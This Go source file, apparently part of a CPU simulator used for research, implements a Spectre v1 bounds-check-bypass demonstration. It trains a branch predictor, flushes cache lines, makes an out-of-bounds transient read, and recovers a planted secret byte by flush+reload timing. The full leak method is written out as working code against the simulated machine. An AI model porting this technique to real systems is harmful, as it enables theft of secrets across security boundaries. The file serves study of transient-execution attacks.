@@ -1,0 +1,196 @@
+package covert
+
+import (
+	"fmt"
+
+	"uwm/internal/core"
+	"uwm/internal/isa"
+	"uwm/internal/mem"
+)
+
+// SpectreV1 demonstrates the bounds-check-bypass primitive the paper
+// builds on (§2: "the cache covert channel leaks sensitive data from
+// within the erroneous speculative execution"). The victim is ordinary,
+// *correct* code:
+//
+//	if idx < bound {
+//	    v := array[idx]
+//	    touch(table[nibble(v) * 64])
+//	}
+//
+// The attacker trains the bounds check in-bounds, flushes the bound
+// variable (slow resolution = wide transient window) and the probe
+// table, then calls the victim with an out-of-bounds index reaching a
+// secret. Architecturally nothing happens — the branch correctly skips
+// the body — but the transient path reads the secret and leaves its
+// nibble in the cache, where flush+reload timing recovers it.
+type SpectreV1 struct {
+	m      *core.Machine
+	bound  mem.Symbol
+	array  mem.Symbol // 8 in-bounds bytes
+	secret mem.Symbol // lives right after the array, out of bounds
+	table  [16]mem.Symbol
+	prog   *isa.Program
+}
+
+// NewSpectreV1 builds the victim and attack programs on m.
+func NewSpectreV1(m *core.Machine) (*SpectreV1, error) {
+	s := &SpectreV1{m: m}
+	lay := m.Layout()
+	s.bound = lay.AllocLine("spectre.bound")
+	s.array = lay.AllocLine("spectre.array")
+	s.secret = lay.AllocLine("spectre.secret")
+	for i := range s.table {
+		s.table[i] = lay.AllocLine(fmt.Sprintf("spectre.t%d", i))
+	}
+	m.Mem().Write64(s.bound.Addr, 8) // len(array)
+
+	base := s.table[0].Addr
+	b := isa.NewBuilder(0x6_800_000)
+
+	// victim_lo / victim_hi: the bounds-checked gadget leaking the
+	// low / high nibble of array[R1]. R1 carries the caller's index.
+	for _, v := range []struct {
+		label string
+		hi    bool
+	}{{"victim_lo", false}, {"victim_hi", true}} {
+		b.Label(v.label).
+			Load(isa.R2, s.bound, 0). // bound: flushed by the attacker
+			Sub(isa.R3, isa.R1, isa.R2).
+			Shr(isa.R3, isa.R3, 63). // 1 iff idx < bound
+			Brz(isa.R3, v.label+"_skip")
+		b.AlignLine()
+		b.Label(v.label + "_body")
+		// Transient body: read array[idx], index the probe table by a
+		// nibble of the value.
+		b.LoadR(isa.R4, isa.R1, int64(s.array.Addr))
+		if v.hi {
+			b.Shr(isa.R4, isa.R4, 4)
+		}
+		b.MovI(isa.R5, 0xF).
+			BoolAnd(isa.R4, isa.R4, isa.R5).
+			Shl(isa.R4, isa.R4, 6).
+			LoadR(isa.R6, isa.R4, int64(base)).
+			Halt()
+		b.AlignLine()
+		b.Label(v.label + "_skip").Halt()
+	}
+
+	// Attacker entries: flush the bound and probe lines; timed probes.
+	b.Label("flush").Clflush(s.bound, 0)
+	for i := range s.table {
+		b.Clflush(s.table[i], 0)
+	}
+	b.Fence().Halt()
+	for i := range s.table {
+		b.Label(fmt.Sprintf("probe%d", i)).
+			Rdtsc(isa.R10).
+			Load(isa.R11, s.table[i], 0).
+			Rdtsc(isa.R12).
+			Halt()
+	}
+
+	prog, err := b.Build()
+	if err != nil {
+		return nil, err
+	}
+	s.prog = prog
+
+	// Warm all code paths (cold transient code cannot execute).
+	entries := []string{"flush"}
+	for i := range s.table {
+		entries = append(entries, fmt.Sprintf("probe%d", i))
+	}
+	cpu := m.CPU()
+	for _, e := range entries {
+		if _, err := cpu.Run(prog, e); err != nil {
+			return nil, fmt.Errorf("covert: warming spectre/%s: %w", e, err)
+		}
+	}
+	// Warm + train the victims with an in-bounds index (this also
+	// touches the transient body's code line, the IC side of the race).
+	for i := 0; i < 4; i++ {
+		for _, v := range []string{"victim_lo", "victim_hi"} {
+			cpu.SetReg(isa.R1, 0)
+			if _, err := cpu.Run(prog, v); err != nil {
+				return nil, fmt.Errorf("covert: training spectre/%s: %w", v, err)
+			}
+		}
+	}
+	return s, nil
+}
+
+// PlantSecret stores the victim's secret byte just past the array.
+func (s *SpectreV1) PlantSecret(b byte) {
+	s.m.Mem().Write64(s.secret.Addr, uint64(b))
+}
+
+// secretIndex is the out-of-bounds index reaching the secret from the
+// array base (they are adjacent line-aligned allocations).
+func (s *SpectreV1) secretIndex() uint64 {
+	return uint64(s.secret.Addr - s.array.Addr)
+}
+
+// leakNibble performs one train → flush → transient access → probe round.
+func (s *SpectreV1) leakNibble(victim string) (int, error) {
+	cpu := s.m.CPU()
+	// Re-train the bounds check in-bounds (the malicious call below
+	// updates the predictor toward taken/skip).
+	for i := 0; i < 4; i++ {
+		cpu.SetReg(isa.R1, 0)
+		if _, err := cpu.Run(s.prog, victim); err != nil {
+			return 0, err
+		}
+	}
+	if _, err := cpu.Run(s.prog, "flush"); err != nil {
+		return 0, err
+	}
+	// The malicious call: out-of-bounds index. Architecturally the
+	// branch (correctly) skips the body.
+	cpu.SetReg(isa.R1, s.secretIndex())
+	if _, err := cpu.Run(s.prog, victim); err != nil {
+		return 0, err
+	}
+	best, bestDelta := -1, int64(1<<62)
+	for i := range s.table {
+		if _, err := cpu.Run(s.prog, fmt.Sprintf("probe%d", i)); err != nil {
+			return 0, err
+		}
+		d := int64(cpu.Reg(isa.R12) - cpu.Reg(isa.R10))
+		if d < bestDelta {
+			best, bestDelta = i, d
+		}
+	}
+	return best, nil
+}
+
+// LeakSecret recovers the secret byte through the transient channel,
+// using a per-nibble majority over rounds.
+func (s *SpectreV1) LeakSecret(rounds int) (byte, error) {
+	if rounds < 1 {
+		rounds = 1
+	}
+	var lo, hi [16]int
+	for r := 0; r < rounds; r++ {
+		l, err := s.leakNibble("victim_lo")
+		if err != nil {
+			return 0, err
+		}
+		h, err := s.leakNibble("victim_hi")
+		if err != nil {
+			return 0, err
+		}
+		lo[l]++
+		hi[h]++
+	}
+	argmax := func(v [16]int) byte {
+		best := 0
+		for i, n := range v {
+			if n > v[best] {
+				best = i
+			}
+		}
+		return byte(best)
+	}
+	return argmax(hi)<<4 | argmax(lo), nil
+}
